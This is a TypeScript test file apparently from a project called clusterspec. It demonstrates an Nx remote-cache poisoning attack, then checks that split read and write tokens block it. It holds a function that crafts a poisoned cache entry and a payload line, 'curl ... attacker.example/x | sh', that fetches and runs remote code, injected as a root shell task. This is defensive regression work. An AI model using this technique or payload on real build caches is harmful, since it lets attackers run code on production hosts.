/**
 * The cache poisoning of issue 22 (the race of CVE-2025-36852), run end to end with the real Nx: a pull request's
 * job computes the hash main's run will compute for cluster-east:archive and stores first, under it, an entry
 * whose archive puts a `shell:` task into deploy/site.yml, the playbook the operator runs as root on every host.
 * Against a cache with no write token (the old README's example) the crafted entry works: main's next run takes
 * it from the remote cache and writes the attacker's task into out/. Against the split tokens the pull request's
 * job holds only the read token: its PUT is 403 (and 401 without a token), and main's run after `nx reset`
 * builds and stores its own entry. About 25 s; every process is bounded in time.
 * Needs `npm run build` (the executor loads packages/cli/dist).
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { decodeArchive, encodeArchive } from '@clusterspec/cli';
import { callCacheServer as call, startCacheServer, stopCacheServer, untilLogged, type RunningCacheServer } from '../support/cache-server';
import { fleet } from '../support/fleet';
import { deadline } from '../support/deadline';

jest.setTimeout(deadline(180000));

const WRITE = 'main-branch-ci-0123456789';
const READ = 'pull-requests-0123456789';
const PAYLOAD = 'curl -fsS https://attacker.example/x | sh';
const ARCHIVE = 'dist/clusterspec/east.archive.gz';
const SITE_YML = 'out/east/deploy/site.yml';

/** How many of the run's tasks Nx says it took from the remote cache. */
function remoteHits(output: string): number {
  return (output.match(/^> nx run \S+ {2}\[remote cache\]$/gm) ?? []).length;
}

/** Entries (not half-written uploads) in a store folder. */
const entries = (store: string) => readdirSync(store).filter((name) => !name.startsWith('.'));

/**
 * What the attacker uploads: Nx's entry format (a gzipped tar of the task's outputs, `terminalOutput` and `code`,
 * as Nx 24 itself stores one) with east's archive re-encoded so that site.yml starts with a task of theirs.
 */
function poisonedEntry(workspace: string, scratch: string): Buffer {
  const sites = decodeArchive(readFileSync(join(workspace, ARCHIVE)), ARCHIVE);
  const poisoned = sites.map((site) => ({
    ...site,
    files: site.files.map((file) =>
      file.path === 'deploy/site.yml'
        ? { ...file, content: `---\n- hosts: all\n  tasks:\n    - shell: ${PAYLOAD}\n${file.content.replace(/^---\n/, '')}` }
        : file,
    ),
  }));
  const root = join(scratch, 'poison');
  mkdirSync(join(root, 'dist/clusterspec'), { recursive: true });
  writeFileSync(join(root, ARCHIVE), encodeArchive(poisoned));
  writeFileSync(join(root, 'terminalOutput'), 'sites/east/cluster.yaml: archived\n');
  writeFileSync(join(root, 'code'), Buffer.alloc(4));
  execFileSync('tar', ['czf', join(scratch, 'poison.tgz'), '-C', root, 'dist', 'terminalOutput', 'code'], { timeout: deadline(30000) });
  return readFileSync(join(scratch, 'poison.tgz'));
}

describe('the demonstrated cache poisoning fails against split write and read tokens', () => {
  let scratch: string;
  let protectedCache: RunningCacheServer;
  let openCache: RunningCacheServer;
  let hash: string;
  let poison: Buffer;
  const genuineSiteYml = () => readFileSync(join(scratch, 'main', SITE_YML), 'utf8');

  beforeAll(async () => {
    scratch = mkdtempSync(join(tmpdir(), 'clusterspec-cache-poisoning-'));
    protectedCache = await startCacheServer(join(scratch, 'protected'), { NX_CACHE_SERVER_WRITE_TOKEN: WRITE, NX_CACHE_SERVER_READ_TOKEN: READ });
    // No token at all: what `--host 0.0.0.0` without a token was (now refused without --insecure).
    openCache = await startCacheServer(join(scratch, 'open'));
    fleet.makeFleetWorkspace(join(scratch, 'main'), [{ name: 'east', text: fleet.modernSpec('east') }]);
  });
  afterAll(async () => {
    await stopCacheServer(protectedCache?.child);
    await stopCacheServer(openCache?.child);
    rmSync(scratch, { recursive: true, force: true });
  });

  it('a pull request’s job (read token) runs, but stores nothing; its crafted entry is refused with the read token (403) and without one (401)', async () => {
    const pr = join(scratch, 'pull-request');
    fleet.cloneFleetWorkspace(join(scratch, 'main'), pr);
    const env = { NX_SELF_HOSTED_REMOTE_CACHE_SERVER: protectedCache.url, NX_SELF_HOSTED_REMOTE_CACHE_ACCESS_TOKEN: READ };
    const run = fleet.nx(pr, ['run', 'cluster-east:archive', '--output-style=static'], env, 120000);
    expect(run.status).toBe(0);
    // Nx asked for the entry and offered its own: the server's log names the hash, and the offer was refused.
    const refused = /PUT \/v1\/cache\/(\d+) 403 0B \d+ms read$/m;
    // Read once the test's event loop turns again (fleet.nx waits synchronously).
    await untilLogged(protectedCache, (text) => refused.test(text));
    hash = refused.exec(protectedCache.stdout())?.[1] ?? '';
    expect(hash).toMatch(/^\d+$/);
    expect(entries(join(scratch, 'protected'))).toEqual([]);

    poison = poisonedEntry(pr, scratch);
    expect(gunzipSync(poison).length).toBeGreaterThan(0);
    expect((await call(protectedCache.url, 'PUT', `/v1/cache/${hash}`, { body: poison, token: READ })).status).toBe(403);
    expect((await call(protectedCache.url, 'PUT', `/v1/cache/${hash}`, { body: poison })).status).toBe(401);
    expect((await call(protectedCache.url, 'PUT', `/v1/cache/${hash}`, { body: poison, token: `${READ}x` })).status).toBe(401);
    expect(entries(join(scratch, 'protected'))).toEqual([]);
  });

  it('the crafted entry is a working attack: a cache anyone may write serves it, and main’s run writes the attacker’s task into out/', async () => {
    expect((await call(openCache.url, 'PUT', `/v1/cache/${hash}`, { body: poison })).status).toBe(200);
    const victim = join(scratch, 'victim-of-open-cache');
    fleet.cloneFleetWorkspace(join(scratch, 'main'), victim);
    const env = { NX_SELF_HOSTED_REMOTE_CACHE_SERVER: openCache.url };
    expect(fleet.nx(victim, ['reset'], env, 60000).status).toBe(0);
    const run = fleet.nx(victim, ['run', 'cluster-east:generate', '--output-style=static'], env, 120000);
    expect(run.status).toBe(0);
    expect(run.output).toMatch(/^> nx run cluster-east:archive {2}\[remote cache\]$/m);
    expect(readFileSync(join(victim, SITE_YML), 'utf8')).toContain(`- shell: ${PAYLOAD}`);
  });

  it('main’s run (write token) after nx reset takes nothing from the attacker: it builds east itself, stores its own entry, out/ is genuine', async () => {
    const main = join(scratch, 'main-ci');
    fleet.cloneFleetWorkspace(join(scratch, 'main'), main);
    const env = { NX_SELF_HOSTED_REMOTE_CACHE_SERVER: protectedCache.url, NX_SELF_HOSTED_REMOTE_CACHE_ACCESS_TOKEN: WRITE };
    expect(fleet.nx(main, ['reset'], env, 60000).status).toBe(0);
    const run = fleet.nx(main, ['run', 'cluster-east:generate', '--output-style=static'], env, 120000);
    expect(run.status).toBe(0);
    expect(remoteHits(run.output)).toBe(0);
    const siteYml = readFileSync(join(main, SITE_YML), 'utf8');
    expect(siteYml).not.toContain(PAYLOAD);
    expect(siteYml).toBe(genuineSiteYml());
    // The one entry under that hash is main's own, and a later write of the attacker's is refused even with the
    // write token (an entry is never replaced).
    expect(entries(join(scratch, 'protected'))).toEqual([hash]);
    expect((await call(protectedCache.url, 'PUT', `/v1/cache/${hash}`, { body: poison, token: WRITE })).status).toBe(409);
    const stored = await call(protectedCache.url, 'GET', `/v1/cache/${hash}`, { token: READ });
    expect(stored.status).toBe(200);
    expect(readFileSync(join(scratch, 'protected', hash)).equals(poison)).toBe(false);
  });
});
